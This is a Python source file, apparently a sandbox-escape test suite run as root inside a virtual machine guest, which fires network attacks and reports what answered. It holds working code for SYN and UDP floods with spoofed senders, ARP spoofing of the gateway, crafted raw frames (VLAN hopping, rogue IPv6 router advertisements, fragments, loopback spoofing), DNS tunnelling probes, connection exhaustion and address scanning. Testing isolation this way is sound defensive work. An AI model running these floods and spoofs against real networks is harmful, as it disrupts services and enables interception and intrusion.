"""A program that runs in a guest, as root: attacks on its network.

Run as ``python network_attacks.py ATTACK [WORDS]``.  Each attack prints one JSON value that says what came of it; the
standard library is all that it needs.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Iterator

CARD = "eth0"
US, GATEWAY = "10.0.2.15", "10.0.2.2"
ALL = b"\xff" * 6
IP, ARP = 0x0800, 0x0806
_PROTOCOLS = {
    "icmp": 1, "igmp": 2, "ipip": 4, "dccp": 33, "sit": 41, "gre": 47, "esp": 50, "ospf": 89, "sctp": 132,
    "udplite": 136, "nobody": 253,
}  # fmt: skip
_SOURCE_ROUTE = b"\x83\x07\x04\x08\x08\x08\x08\0"
_UDP_PORTS = (7, 67, 123, 137, 161, 443, 500, 514, 1900, 3478, 4500, 5353, 51820)


def protocols(*targets: str) -> dict[str, object]:
    """Send packets of every IP protocol to `targets`; return what answered by protocol."""
    answered: dict[str, object] = {}
    for name, number in _PROTOCOLS.items():
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, number) as sock:
            for target in targets:
                payload = _icmp_echo() if name == "icmp" else bytes(32)
                with contextlib.suppress(OSError):
                    sock.sendto(payload, (target, 0))
            if found := [sender for data, sender in _received(sock, 0.5) if sender != US]:
                answered[name] = found
    return answered


def udp(*targets: str) -> list[object]:
    """Send datagrams to many ports of `targets`, among them a QUIC packet; return who answered."""
    answered: list[object] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        for target in targets:
            for port in _UDP_PORTS:
                with contextlib.suppress(OSError):
                    sock.sendto(b"\xc0\x00\x00\x00\x01\x08" + bytes(1194), (target, port))
        answered += [[sender, len(data)] for data, sender in _received(sock, 1)]
    return answered


def six(*targets: str) -> list[object]:
    """Try TCP, UDP and ping to IPv6 addresses; return what worked."""
    found: list[object] = []
    index = socket.if_nametoindex(CARD)
    for target in targets:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as sock:
            sock.settimeout(1)
            with contextlib.suppress(OSError):
                sock.connect((target, 80, 0, index))
                sock.sendall(b"GET /hello HTTP/1.0\r\n\r\n")
                found.append([target, sock.recv(200).decode(errors="replace").partition("\r\n")[0]])
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock, contextlib.suppress(OSError):
            sock.settimeout(0.3)
            sock.sendto(b"x", (target, 7, 0, index))
            found.append([target, sock.recv(100).decode(errors="replace")])
    return found


def frames(target: str) -> list[str]:
    """Send frames that a driver never would; return what answers, other than by the attacker's own address.

    Among them: VLANs, IPv6 with an advertised router, other senders' addresses, loopback as sender and as receiver, the
    gateway as sender, source routes, fragments, nonsense, spanning tree, PPPoE, MPLS, and ARP for everybody.
    """
    strange = 0
    answers: set[str] = set()
    with _card() as sock:
        ours = sock.getsockname()[4]
        gateway = _mac_of_gateway(sock, ours)
        syn, split = _ip(US, target, _syn(US, target, 40000, 80)), _syn(US, target, 40004, 80)
        made = [
            *(_frame(to, sender, 0x8100, struct.pack("!HH", vlan, IP) + syn)
              for to in (ALL, gateway) for sender in (ours, b"\x02\0\0\0\0\x09") for vlan in (0, 1, 4094)),
            _frame(gateway, ours, 0x88A8, struct.pack("!HHHH", 5, 0x8100, 6, IP) + syn),
            *(_frame(to, b"\x02\0\0\0\0\x07", IP, syn) for to in (b"\x01\0\x5e\0\0\x01", b"\x02\0\0\0\0\x08")),
            *(_frame(gateway, ours, IP, _ip(sender, receiver, _syn(sender, receiver, 40001, port)))
              for sender in ("127.0.0.1", GATEWAY, "10.0.2.99", "8.8.8.8", "0.0.0.0", "255.255.255.255", "224.0.0.1")
              for receiver in (target, "127.0.0.1", GATEWAY) for port in (1, 22, 53, 80)),
            *(_frame(gateway, ours, IP, _ip(US, here, _syn(US, here, 40002, 8000))) for here in ("127.0.0.1", GATEWAY)),
            _frame(gateway, ours, IP, _ip(US, target, _syn(US, target, 40003, 80), options=_SOURCE_ROUTE)),
            *(_frame(gateway, ours, IP, _ip(US, target, split[:8], fragment=0x2000)) for _ in range(64)),
            _frame(gateway, ours, IP, _ip(US, target, split[8:], fragment=1)),
            *(_frame(gateway, ours, IP, _ip(US, target, split, ttl=ttl)) for ttl in (0, 1)),
            *(_frame(ALL, ours, 0x86DD, _router_advertisement()) for _ in range(3)),
            _frame(b"\x01\x80\xc2\0\0\0", ours, 38, b"\x42\x42\x03" + bytes(35)),
            _frame(ALL, ours, 0x8863, b"\x11\x09\0\0\0\x04\x01\x01\0\0"),
            _frame(ALL, ours, 0x8864, b"\x11\0\0\x01\0\x04\xc0\x21\x01\x01"),
            _frame(gateway, ours, 0x8847, b"\0\x01\x01\x40" + syn),
            *(_frame(gateway, ours, kind, bytes(60)) for kind in range(0x0600, 0xFFFF, 0x01FF)),
            *(_frame(ALL, ours, IP, syn[:size]) for size in range(len(syn))),
        ]  # fmt: skip
        for frame in made:
            with contextlib.suppress(OSError):
                sock.send(frame)
                strange += 1
        for data, _ in _received(sock, 1.5):
            kind = struct.unpack_from("!H", data, 12)[0]
            if data[6:12] != ours:
                answers.add(_named(data) if kind == IP else f"{kind:#06x}")
    assert strange > 300
    return sorted(answers)


def arp(count: str) -> list[str]:
    """Claim many addresses, also the gateway's, and ask for many; return for whom anybody answered."""
    answered: set[str] = set()
    with _card() as sock:
        ours = sock.getsockname()[4]
        for number in range(int(count)):
            sender = socket.inet_ntoa(struct.pack("!I", 0x0B000000 + number))
            sock.send(_arp(ours, sender, GATEWAY))
            if number % 100 == 0:
                time.sleep(0.01)
        for claimed in (GATEWAY, "8.8.8.8", "127.0.0.1"):
            sock.send(_arp(ours, claimed, claimed, operation=2))
        for wanted in (GATEWAY, "10.0.2.1", "10.0.2.3", "10.0.2.16", "8.8.8.8", "127.0.0.1", "169.254.169.254"):
            sock.send(_arp(ours, US, wanted))
        for data, _ in _received(sock, 1):
            if data[12:14] == b"\x08\x06" and data[20:22] == b"\0\x02" and data[6:12] != ours:
                answered.add(socket.inet_ntoa(data[28:32]))
    return sorted(answered)


def dhcp() -> list[object]:
    """Ask for a lease; return who offers one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.bind(("", 68))
        discover = struct.pack("!BBBBI", 1, 1, 6, 0, 7) + bytes(228) + b"\x63\x82\x53\x63\x35\x01\x01\xff"
        for target in ("255.255.255.255", GATEWAY):
            sock.sendto(discover, (target, 67))
        return [sender for _, sender in _received(sock, 1)]


def connect(*targets: str) -> dict[str, str]:
    """Ask each ADDRESS:PORT for ``/hello`` by HTTP; return the first line that it answers, or the error's name."""
    return {target: _asked(*target.rsplit(":", 1)) for target in targets}


def scan(first: str, count: str, port: str) -> dict[str, int]:
    """Ask `count` addresses from `first` on; return how many gave each answer."""
    start = struct.unpack("!I", socket.inet_aton(first))[0]
    told: dict[str, int] = {}
    for number in range(int(count)):
        answer = _asked(socket.inet_ntoa(struct.pack("!I", start + number * 97)), port)
        told[answer] = told.get(answer, 0) + 1
    return told


def queries(*servers: str) -> dict[str, object]:
    """Send queries that tunnels are made of to `servers`; return the answers' codes and addresses by query."""
    told: dict[str, object] = {}
    label = b"x" * 63
    tries: dict[str, bytes] = {
        "long labels": _query([label, label, label, b"evil", b"example"]),
        "too long": _query([label, label, label, label, b"example"]),
        "null bytes": _query([b"a\0b.c", b"evil", b"example"]),
        "chaos": _query([b"version", b"bind"], 16, 3),
        "two questions": struct.pack("!6H", 7, 0x100, 2, 0, 0, 0) + _query([b"evil", b"example"])[12:] * 2,
        "update": struct.pack("!6H", 7, 0x2800, 1, 0, 0, 0) + _query([b"evil", b"example"])[12:],
        "notify": struct.pack("!6H", 7, 0x2000, 1, 0, 0, 0) + _query([b"evil", b"example"])[12:],
        "an answer": struct.pack("!6H", 7, 0x8180, 1, 0, 0, 0) + _query([b"evil", b"example"])[12:],
        "a loop": struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1",
        "records": _query([b"evil", b"example"], more=b"\xc0\x0c" + struct.pack("!HHIH", 10, 1, 0, 0), count=5000),
        "a digit at the end": _query([b"127", b"0", b"0", b"1"]),
        "hex at the end": _query([b"0x7f000001"]),
        **{f"type {kind}": _query([b"data-in-a-name", b"evil", b"example"], kind)
           for kind in (1, 2, 5, 6, 10, 15, 16, 28, 33, 35, 65, 252, 255)},
    }  # fmt: skip
    for what, query in tries.items():
        for server in servers:
            for way in ("udp", "tcp"):
                told[f"{what} {way} {server}"] = _told(server, query, way)
    return told


def many_names(suffix: str, count: str) -> dict[str, int]:
    """Ask for many names below `suffix`; return how many gave each answer."""
    told: dict[str, int] = {}
    for number in range(int(count)):
        query = _query([f"{number:08x}{random.randbytes(20).hex()}".encode(), *suffix.encode().split(b".")])
        answer = _told("9.9.9.9", query, "udp")
        key = answer if isinstance(answer, str) else "answered"
        told[key] = told.get(key, 0) + 1
    return told


def syn_flood(target: str, count: str) -> int:
    """Send `count` first packets of connections that are never made; return how many."""
    with _card() as sock:
        ours = sock.getsockname()[4]
        gateway = _mac_of_gateway(sock, ours)
        for number in range(int(count)):
            sender = US if number % 2 else f"10.0.2.{3 + number % 250}"
            packet = _ip(sender, target, _syn(sender, target, 1024 + number % 60000, 80 + number // 60000))
            with contextlib.suppress(OSError):
                sock.send(_frame(gateway, ours, IP, packet))
    return int(count)


def udp_flood(count: str) -> int:
    """Send `count` queries from as many ports as there are; return how many."""
    with _card() as sock:
        ours = sock.getsockname()[4]
        gateway = _mac_of_gateway(sock, ours)
        query = _query([b"evil", b"example"])
        for number in range(int(count)):
            datagram = struct.pack("!HHHH", 1024 + number % 60000, 53, 8 + len(query), 0) + query
            with contextlib.suppress(OSError):
                sock.send(_frame(gateway, ours, IP, _ip(US, "9.9.9.9", datagram, protocol=17)))
    return int(count)


def hold(target: str, port: str, count: str) -> int:
    """Open `count` connections, as far as the guest's own limits go, hold all, and give them up; return how many."""
    import resource

    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held = []
    address = socket.gethostbyname(target)
    for _ in range(int(count)):
        try:
            sock = socket.socket()
        except OSError:
            break
        sock.setblocking(False)
        with contextlib.suppress(OSError):
            sock.connect((address, int(port)))
        held.append(sock)
    time.sleep(1)
    return len(held)


def smallest_segments(target: str, port: str) -> int:
    """Connect with the smallest segments that TCP knows, send and read back; return how many bytes came back."""
    with socket.socket() as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 88)
        sock.settimeout(20)
        sock.connect((target, int(port)))
        data = bytes(100_000)
        sock.sendall(data)
        got = 0
        while got < len(data):
            got += len(sock.recv(65536))
        return got


def _asked(host: str, port: str) -> str:
    with socket.socket() as sock:
        sock.settimeout(15)
        try:
            sock.connect((host, int(port)))
            sock.sendall(f"GET /hello HTTP/1.0\r\nHost: {host}\r\n\r\n".encode())
            return sock.recv(300).decode(errors="replace").partition("\r\n")[0]
        except OSError as error:
            return type(error).__name__


def _query(labels: list[bytes], kind: int = 1, group: int = 1, *, more: bytes = b"", count: int = 0) -> bytes:
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    return struct.pack("!6H", 7, 0x100, 1, count, 0, 0) + name + struct.pack("!2H", kind, group) + more * count


def _told(server: str, query: bytes, way: str) -> object:
    """Return the addresses that the answer has, or its code; or "silence"."""
    kind = socket.SOCK_DGRAM if way == "udp" else socket.SOCK_STREAM
    with socket.socket(socket.AF_INET, kind) as sock:
        sock.settimeout(1.5)
        try:
            sock.connect((server, 53))
            sock.sendall(query if way == "udp" else struct.pack("!H", len(query)) + query)
            answer = sock.recv(65536)[0 if way == "udp" else 2 :]
        except OSError:
            return "silence"
    if len(answer) < 12:
        return "silence"
    code, answers = answer[3] & 15, struct.unpack_from("!H", answer, 6)[0]
    return f"code {code}" if code or not answers else [socket.inet_ntoa(answer[-4:])]


def _card() -> socket.socket:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.bind((CARD, 0))
    return sock


def _mac_of_gateway(sock: socket.socket, ours: bytes) -> bytes:
    sock.send(_arp(ours, US, GATEWAY))
    for data, _ in _received(sock, 3):
        if data[12:14] == b"\x08\x06" and data[20:22] == b"\0\x02":
            return data[6:12]
    raise SystemExit("the gateway does not answer")


def _received(sock: socket.socket, seconds: float) -> Iterator[tuple[bytes, object]]:
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0 and select.select([sock], [], [], left)[0]:
        with contextlib.suppress(OSError):
            data, sender = sock.recvfrom(65536)
            yield data, sender[0]


def _frame(to: bytes, sender: bytes, kind: int, payload: bytes) -> bytes:
    return to + sender + struct.pack("!H", kind) + payload


def _arp(mac: bytes, sender: str, wanted: str, operation: int = 1) -> bytes:
    body = struct.pack("!HHBBH", 1, IP, 6, 4, operation) + mac + socket.inet_aton(sender) + bytes(6)
    return _frame(ALL, mac, ARP, body + socket.inet_aton(wanted))


def _ip(
    sender: str, to: str, payload: bytes, *, protocol: int = 6, ttl: int = 64, fragment: int = 0, options: bytes = b""
) -> bytes:
    words = 5 + len(options) // 4
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x40 | words, 0, words * 4 + len(payload), 77, fragment, ttl, protocol, 0,
        socket.inet_aton(sender), socket.inet_aton(to),
    )  # fmt: skip
    head += options
    return head[:10] + struct.pack("!H", _checksum(head)) + head[12:] + payload


def _syn(sender: str, to: str, source: int, port: int) -> bytes:
    segment = struct.pack("!HHIIBBHHH", source, port, 1, 0, 0x50, 2, 8192, 0, 0)
    pseudo = socket.inet_aton(sender) + socket.inet_aton(to) + struct.pack("!BBH", 0, 6, len(segment))
    return segment[:16] + struct.pack("!H", _checksum(pseudo + segment)) + segment[18:]


def _icmp_echo() -> bytes:
    head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
    return head[:2] + struct.pack("!H", _checksum(head)) + head[4:]


def _router_advertisement() -> bytes:
    sender, to = socket.inet_pton(socket.AF_INET6, "fe80::9"), socket.inet_pton(socket.AF_INET6, "ff02::1")
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, "2001:db8:9::")
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix
    pseudo = sender + to + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", _checksum(pseudo + body)) + body[4:]
    return struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + sender + to + body


def _checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + bytes(len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def _named(frame: bytes) -> str:
    """Name an IPv4 packet: its protocol, sender, receiver and, for TCP and UDP, port that it comes from."""
    size = (frame[14] & 15) * 4
    number = frame[23]
    name = {1: "icmp", 6: "tcp", 17: "udp"}.get(number, str(number))
    sender, to = socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])
    port = struct.unpack_from("!H", frame, 14 + size)[0] if number in {6, 17} else 0
    return f"{name} from {sender} port {port} to {to}"


ATTACKS = (
    protocols, udp, six, frames, arp, dhcp, connect, scan, queries, many_names, syn_flood, udp_flood, hold,
    smallest_segments,
)  # fmt: skip

if __name__ == "__main__":
    chosen = {attack.__name__: attack for attack in ATTACKS}[sys.argv[1]]
    sys.stdout.write(json.dumps(chosen(*sys.argv[2:])) + "\n")
    sys.stdout.flush()
    os._exit(0)  # thousands of sockets are closed at once
